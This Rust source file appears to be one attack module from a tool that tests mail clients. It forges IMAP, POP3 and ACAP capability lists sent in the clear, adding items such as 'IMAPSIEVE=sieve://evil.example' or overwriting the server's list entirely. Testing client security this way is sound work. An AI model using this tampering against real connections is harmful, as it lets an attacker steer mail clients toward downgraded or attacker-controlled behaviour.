//! Adds capabilities in the clear.

use super::{Attack, Deciding, Group, tamper};
use crate::base::{Protocol, Side, Switch, switch};
use crate::harm::success;

switch!(
    Middle LIST,
    "list",
    Setting,
    &["extended", "overwritten", "everything"],
    &[],
    "Forged list",
    "The server's list with one item more, in IMAP a list of the attacker's own behind it, or the server's with whatever makes a client do something else."
);

static SWITCHES: &[&Switch] = &[&LIST];

static DECIDING: &[Deciding] = &[Deciding {
    protocols: &[Protocol::Imap, Protocol::Pop3, Protocol::Acap],
    given: &[],
    right: &[],
    wrong: &["client.keep-capabilities=on"],
}];

/// The attack.
pub static ATTACK: Attack = Attack {
    id: "forge-capability",
    title: "Add capabilities",
    about: "Adds a capability that the server does not have to what it lists in the clear, or puts a list of its own over it.",
    group: Group::Capabilities,
    known: &[],
    protocols: &[Protocol::Imap, Protocol::Pop3, Protocol::Acap],
    switches: SWITCHES,
    build: |switches, dialect| {
        let overwrites = switches.get(&LIST) == "overwritten" && dialect.protocol == Protocol::Imap;
        let items: &[&str] = match dialect.protocol {
            Protocol::Imap => &[
                "IMAPSIEVE=sieve://evil.example",
                "LOGIN-REFERRALS",
                "COMPRESS=DEFLATE",
                "LITERAL+",
                "SASL-IR",
                "UTF8=ONLY",
            ],
            Protocol::Pop3 => &["EXPIRE 0", "PIPELINING", "RESP-CODES", "UTF8"],
            Protocol::Acap => &["CONTEXTLIMIT 0", "IMPLEMENTATION evil.example"],
        };
        let items =
            if switches.get(&LIST) == "everything" { items } else { items.get(..1).unwrap_or_default() };
        tamper(move |message, moves| {
            let listed =
                (message.from == Side::Server).then(|| (dialect.with_items)(message.octets, items)).flatten();
            match listed {
                Some(_) if overwrites => {
                    moves.pass();
                    moves.add(b"* CAPABILITY IMAP4rev1 IDLE STARTTLS\r\n".to_vec());
                }
                Some(octets) => moves.replace(octets),
                None => moves.pass(),
            }
        })
    },
    success: &success::FORGED_CAPABILITIES,
    deciding: DECIDING,
};
